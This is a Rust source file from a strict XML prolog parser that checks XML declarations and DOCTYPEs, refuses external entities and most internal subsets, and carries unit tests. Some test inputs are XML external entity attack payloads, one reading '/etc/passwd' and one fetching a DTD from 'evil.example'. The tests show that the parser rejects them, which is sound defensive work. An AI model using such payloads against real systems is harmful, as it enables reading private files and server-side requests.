//! The XML declaration and the document type declaration: read strictly, never followed.

use super::chars::{is_blank, name_len};
use super::{Doctype, XmlErrorKind};

/// What is wrong: the kind, the bytes left when it was found, and what was expected.
pub(super) type PrologFault = (XmlErrorKind, usize, &'static str);

/// What a document type declaration said.
pub(super) struct DoctypeDeclaration<'x> {
    pub(super) doctype: Doctype<'x>,
    /// Whether there was an internal subset, which only declared parameter entities.
    pub(super) subset_skipped: bool,
}

/// Checks `<?xml … ?>` (production 23), and tells whether it says `standalone="yes"`.
pub(super) fn check_declaration(source: &str) -> Result<bool, PrologFault> {
    let mut cursor = Cursor { rest: source };
    cursor.expect("<?xml", "an XML declaration")?;
    let version = cursor.pseudo_attribute("version")?;
    match version.and_then(|version| version.strip_prefix("1.")) {
        Some(minor) if !minor.is_empty() && minor.bytes().all(|digit| digit.is_ascii_digit()) => {}
        _ => return Err(cursor.fault("`version=\"1.0\"` first in the XML declaration")),
    }
    if let Some(encoding) = cursor.pseudo_attribute("encoding")? {
        let rest_is_right = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_' | b'-');
        if !encoding.starts_with(|first: char| first.is_ascii_alphabetic()) || !encoding.bytes().all(rest_is_right) {
            return Err(cursor.fault("the name of an encoding in the XML declaration"));
        }
    }
    let standalone = cursor.pseudo_attribute("standalone")?;
    if !matches!(standalone, None | Some("yes" | "no")) {
        return Err(cursor.fault("`standalone=\"yes\"` or `standalone=\"no\"`"));
    }
    cursor.blanks();
    cursor.expect("?>", "version, encoding and standalone, in this order, then `?>`")?;
    Ok(standalone == Some("yes"))
}

/// Reads `<!DOCTYPE … >` (production 28). Of an internal subset only parameter entities with literal values are let
/// pass, unread: an old official sample has one.
pub(super) fn read_doctype(source: &str) -> Result<DoctypeDeclaration<'_>, PrologFault> {
    let mut cursor = Cursor { rest: source };
    cursor.expect("<!DOCTYPE", "`<!DOCTYPE` in upper case")?;
    cursor.expect_blanks("a blank after `<!DOCTYPE`")?;
    let name = cursor.name("the root element's name in the DOCTYPE")?;
    let mut doctype = Doctype {
        name,
        public_id: None,
        system_id: None,
    };
    if cursor.blanks() {
        if cursor.eat("SYSTEM") {
            cursor.expect_blanks("a blank after SYSTEM")?;
            doctype.system_id = Some(cursor.literal("a quoted SYSTEM identifier")?);
        } else if cursor.eat("PUBLIC") {
            cursor.expect_blanks("a blank after PUBLIC")?;
            let public_id = cursor.literal("a quoted PUBLIC identifier")?;
            if !public_id.bytes().all(is_public_id_byte) {
                return Err(cursor.fault("a PUBLIC identifier of the characters XML allows in it"));
            }
            doctype.public_id = Some(public_id);
            cursor.expect_blanks("a blank after the PUBLIC identifier")?;
            doctype.system_id = Some(cursor.literal("a SYSTEM identifier after the PUBLIC identifier")?);
        }
        cursor.blanks();
    }
    let subset_skipped = cursor.eat("[");
    if subset_skipped {
        skip_subset(&mut cursor)?;
        cursor.blanks();
    }
    cursor.expect(">", "`>` at the end of the DOCTYPE")?;
    match cursor.rest {
        "" => Ok(DoctypeDeclaration {
            doctype,
            subset_skipped,
        }),
        _ => Err(cursor.fault("nothing more in the DOCTYPE")),
    }
}

/// Passes over an internal subset and its `]`.
fn skip_subset(cursor: &mut Cursor<'_>) -> Result<(), PrologFault> {
    const ONLY: &str = "no internal subset but parameter entities with literal values";
    let forbidden = |cursor: &Cursor<'_>| (XmlErrorKind::Forbidden, cursor.rest.len(), ONLY);
    loop {
        cursor.blanks();
        if cursor.eat("]") {
            return Ok(());
        }
        let is_parameter_entity = cursor.eat("<!ENTITY") && cursor.blanks() && cursor.eat("%") && cursor.blanks();
        if !is_parameter_entity {
            return Err(forbidden(cursor));
        }
        let literal = cursor
            .name(ONLY)
            .and_then(|_| cursor.expect_blanks(ONLY))
            .and_then(|()| cursor.literal(ONLY));
        match literal {
            Ok(value) if !value.contains(['%', '&']) => {}
            _ => return Err(forbidden(cursor)),
        }
        cursor.blanks();
        cursor.expect(">", "`>` at the end of an entity declaration")?;
    }
}

/// Production 13.
fn is_public_id_byte(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || b" \r\n-'()+,./:=?;!*#@$_%".contains(&byte)
}

struct Cursor<'x> {
    rest: &'x str,
}

impl<'x> Cursor<'x> {
    fn fault(&self, expected: &'static str) -> PrologFault {
        (XmlErrorKind::NotWellFormed, self.rest.len(), expected)
    }

    fn take(&mut self, length: usize) -> &'x str {
        let (taken, rest) = self.rest.split_at(length);
        self.rest = rest;
        taken
    }

    fn eat(&mut self, token: &str) -> bool {
        let found = self.rest.starts_with(token);
        if found {
            self.take(token.len());
        }
        found
    }

    fn expect(&mut self, token: &str, expected: &'static str) -> Result<(), PrologFault> {
        if self.eat(token) {
            Ok(())
        } else {
            Err(self.fault(expected))
        }
    }

    fn blanks(&mut self) -> bool {
        let length = self.rest.bytes().take_while(|&byte| is_blank(byte)).count();
        !self.take(length).is_empty()
    }

    fn expect_blanks(&mut self, expected: &'static str) -> Result<(), PrologFault> {
        if self.blanks() {
            Ok(())
        } else {
            Err(self.fault(expected))
        }
    }

    fn name(&mut self, expected: &'static str) -> Result<&'x str, PrologFault> {
        match name_len(self.rest) {
            0 => Err(self.fault(expected)),
            length => Ok(self.take(length)),
        }
    }

    fn literal(&mut self, expected: &'static str) -> Result<&'x str, PrologFault> {
        let quote = match self.rest.chars().next() {
            Some(quote @ ('"' | '\'')) => quote,
            _ => return Err(self.fault(expected)),
        };
        let length = self.rest[1..].find(quote).ok_or_else(|| self.fault(expected))?;
        self.take(1);
        let literal = self.take(length);
        self.take(1);
        Ok(literal)
    }

    /// The value of ` name="…"`, if that comes next.
    fn pseudo_attribute(&mut self, name: &str) -> Result<Option<&'x str>, PrologFault> {
        let before = self.rest;
        if !(self.blanks() && self.eat(name)) {
            self.rest = before;
            return Ok(None);
        }
        self.blanks();
        self.expect("=", "`=` in the XML declaration")?;
        self.blanks();
        self.literal("a quoted value in the XML declaration").map(Some)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn declarations() {
        for (source, expect) in [
            (r#"<?xml version="1.0"?>"#, true),
            (r#"<?xml version='1.0' encoding='utf-8' standalone='no' ?>"#, true),
            ("<?xml\nversion = \"1.1\"\tencoding=\"ISO-8859-15\"?>", true),
            (r#"<?xml version="1.0" standalone="yes"?>"#, true),
            ("<?xml ?>", false),
            ("<?xml?>", false),
            (r#"<?xml encoding="UTF-8"?>"#, false),
            (r#"<?xml encoding="UTF-8" version="1.0"?>"#, false),
            (r#"<?xml version="1.0" standalone="yes" encoding="UTF-8"?>"#, false),
            (r#"<?xml version="1.0"encoding="UTF-8"?>"#, false),
            (r#"<?xml version="2.0"?>"#, false),
            (r#"<?xml version="1."?>"#, false),
            (r#"<?xml version="1.0" encoding=""?>"#, false),
            (r#"<?xml version="1.0" encoding="8859"?>"#, false),
            (r#"<?xml version="1.0" standalone="maybe"?>"#, false),
            (r#"<?xml version="1.0" other="1"?>"#, false),
            (r#"<?xml version="1.0" version="1.0"?>"#, false),
            (r#"<?xml version=1.0?>"#, false),
            (r#"<?xml version="1.0'?>"#, false),
            (r#"<?xml version="1.0" x?>"#, false),
        ] {
            assert_eq!(check_declaration(source).is_ok(), expect, "{source}");
        }
    }

    #[test]
    fn doctypes() {
        let read = |source| {
            let read = read_doctype(source).map_err(|(kind, ..)| kind)?;
            Ok((
                read.doctype.name,
                read.doctype.public_id,
                read.doctype.system_id,
                read.subset_skipped,
            ))
        };
        let (ill, forbidden) = (Err(XmlErrorKind::NotWellFormed), Err(XmlErrorKind::Forbidden));
        for (source, expect) in [
            ("<!DOCTYPE cXML>", Ok(("cXML", None, None, false))),
            ("<!DOCTYPE cXML >", Ok(("cXML", None, None, false))),
            (
                r#"<!DOCTYPE cXML SYSTEM "a.dtd">"#,
                Ok(("cXML", None, Some("a.dtd"), false)),
            ),
            (
                "<!DOCTYPE\ncXML\tSYSTEM 'file:///dev/random' >",
                Ok(("cXML", None, Some("file:///dev/random"), false)),
            ),
            (
                r#"<!DOCTYPE cXML PUBLIC "-//x//EN" 'a.dtd'>"#,
                Ok(("cXML", Some("-//x//EN"), Some("a.dtd"), false)),
            ),
            (
                r#"<!DOCTYPE cXML SYSTEM "a>[b">"#,
                Ok(("cXML", None, Some("a>[b"), false)),
            ),
            ("<!DOCTYPE cXML []>", Ok(("cXML", None, None, true))),
            (
                r#"<!DOCTYPE cXML SYSTEM "a.dtd" [ <!ENTITY % SGML-help "INCLUDE"> <!ENTITY % x 'y>z' > ] >"#,
                Ok(("cXML", None, Some("a.dtd"), true)),
            ),
            ("<!doctype cXML>", ill),
            ("<!DOCTYPEcXML>", ill),
            ("<!DOCTYPE >", ill),
            ("<!DOCTYPE 9>", ill),
            ("<!DOCTYPE cXML SYSTEM>", ill),
            ("<!DOCTYPE cXML SYSTEM a.dtd>", ill),
            (r#"<!DOCTYPE cXML SYSTEM"a.dtd">"#, ill),
            (r#"<!DOCTYPE cXML SYSTEM "a.dtd" "b">"#, ill),
            (r#"<!DOCTYPE cXML "a.dtd">"#, ill),
            (r#"<!DOCTYPE cXML PUBLIC "x">"#, ill),
            (r#"<!DOCTYPE cXML PUBLIC "x{}" "a.dtd">"#, ill),
            (r#"<!DOCTYPE cXML PUBLIC "x""a.dtd">"#, ill),
            (r#"<!DOCTYPE cXML system "a.dtd">"#, ill),
            ("<!DOCTYPE cXML [] x>", ill),
            (r#"<!DOCTYPE cXML [<!ENTITY x "y">]>"#, forbidden),
            (
                r#"<!DOCTYPE cXML [<!ENTITY x SYSTEM "file:///etc/passwd">]>"#,
                forbidden,
            ),
            (
                r#"<!DOCTYPE cXML [<!ENTITY % x SYSTEM "http://evil.example/e.dtd"> %x;]>"#,
                forbidden,
            ),
            (r#"<!DOCTYPE cXML [<!ENTITY % x "y"> %x;]>"#, forbidden),
            (r#"<!DOCTYPE cXML [<!ENTITY % x "%y;">]>"#, forbidden),
            (r#"<!DOCTYPE cXML [<!ENTITY % x "&#60;!ENTITY y 'z'>">]>"#, forbidden),
            ("<!DOCTYPE cXML [<!ELEMENT cXML ANY>]>", forbidden),
            (r#"<!DOCTYPE cXML [<!ATTLIST cXML a CDATA "b">]>"#, forbidden),
            (r#"<!DOCTYPE cXML [<!NOTATION n SYSTEM "x">]>"#, forbidden),
            ("<!DOCTYPE cXML [<!-- x -->]>", forbidden),
            ("<!DOCTYPE cXML [<?x y?>]>", forbidden),
            ("<!DOCTYPE cXML [x]>", forbidden),
        ] {
            assert_eq!(read(source), expect, "{source}");
        }
    }
}
